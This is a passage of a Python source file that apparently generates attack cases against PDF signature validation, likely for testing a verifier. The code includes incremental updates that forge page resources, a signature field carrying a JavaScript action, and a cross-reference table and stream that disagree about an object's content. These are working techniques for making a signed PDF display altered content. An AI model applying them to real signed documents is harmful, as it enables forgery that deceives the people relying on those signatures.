    stamp = update.page.Resources.XObject.Stamp
    stamp.write(b"1 g 0 0 20 20 re f")
    update.touch(stamp)


def _shown_now(update: Update) -> None:
    _on_page(update, update.named("ready"))


def _escaped(update: Update) -> None:
    look = evil_look(update)
    update.page.Resources.XObject["/Later"] = look
    update.touch(update.page, update.page.Resources)


def _font_of_a_field(update: Update) -> None:
    odd = update.add(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Symbol))
    form = update.pdf.Root.AcroForm
    form.DR.Font["/Odd"] = odd
    update.touch(form)


def _signature_with_script(update: Update) -> None:
    field = update.add(Dictionary(FT=Name.Sig, T="Next", V=_rubbish(update)))
    field.AA = Dictionary(F=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    _field_put(update, field, shown=False)


def _old_mark_elsewhere(update: Update) -> None:
    page = update.pdf.pages[1].obj
    there = page.get("/Annots")
    page.Annots = Array([*(list(there) if there is not None else []), update.named("filled")])
    update.touch(page)


def _read_in_two_ways(signed: bytes) -> bytes:
    """The table says one thing, the cross-reference stream beside it another."""
    return _two_readings(signed, evil_in_table=True)


def _read_in_two_other_ways(signed: bytes) -> bytes:
    """The table says that nothing changed, the stream beside it, which some readers ask first, that something did."""
    return _two_readings(signed, evil_in_table=False)


def _two_readings(signed: bytes, *, evil_in_table: bool) -> bytes:
    if uses_stream(signed):
        return updated(signed, _turned)
    bodies, _, _ = changed_objects(signed, _turned)
    plain, _, _ = changed_objects(signed, lambda update: update.touch(update.page))
    (number,) = bodies
    out = bytearray(signed if signed.endswith(b"\n") else signed + b"\n")
    evil = len(out)
    out += b"%d 0 obj\n" % number + bodies[number] + b"\nendobj\n"
    good = len(out)
    out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    if not evil_in_table:
        evil, good = good, evil
    with pikepdf.open(BytesIO(signed)) as pdf:
        size, root = int(pdf.trailer.Size), pdf.trailer.Root.unparse()
    stream = len(out)
    row = b"\x01" + good.to_bytes(4, "big") + b"\0\0"
    head = b"<< /Type /XRef /W [1 4 2] /Index [%d 1] /Size %d /Length 7 /Root %s >>" % (number, size + 1, root)
    out += b"%d 0 obj\n" % size + head + b"\nstream\n" + row + b"\nendstream\nendobj\n"
    start = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (number, evil, size, stream)
    out += b"trailer\n<< /Root %s /Size %d /Prev %d /XRefStm %d >>\n" % (root, size + 1, last_start(signed), stream)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


POSING = [
    Attack("posing", "a note that is a graphics state", change(_posing_as("Note")), prepare=_posing, level=3),
    Attack("posing", "a page tree that is a graphics state", change(_posing_as("Tree")), prepare=_posing),
    Attack("posing", "a field that is a graphics state", change(_posing_as("Box")), prepare=_posing, level=2),
    Attack("posing", "an annotation that is a form", change(_stamp_posing), prepare=_posing, level=3),
    Attack("posing", "a field that no page showed", change(_shown_now), prepare=_posing, level=2),
    Attack("posing", "a name that was not there", change(_escaped), prepare=_posing),
    Attack("posing", "a font that a field names", change(_font_of_a_field), prepare=_posing, level=2),
    Attack("posing", "a script on a signature", change(_signature_with_script), prepare=_posing, level=2),
    Attack("posing", "a field on another page", change(_old_mark_elsewhere), prepare=_posing, level=3),
    Attack("posing", "two readings", _read_in_two_ways),
    Attack("posing", "two other readings", _read_in_two_other_ways),
]

FAMILIES = [
    *FORGERY,
    *SAVING,
    *WRAPPING,
    *HIDE,
    *REPLACE,
    *HIDE_AND_REPLACE,
    *EVIL_ANNOTATION,
    *SNEAKY_SIGNATURE,
    *OVERLAP,
    *FORM_OVERLAY,
    *POSING,
]
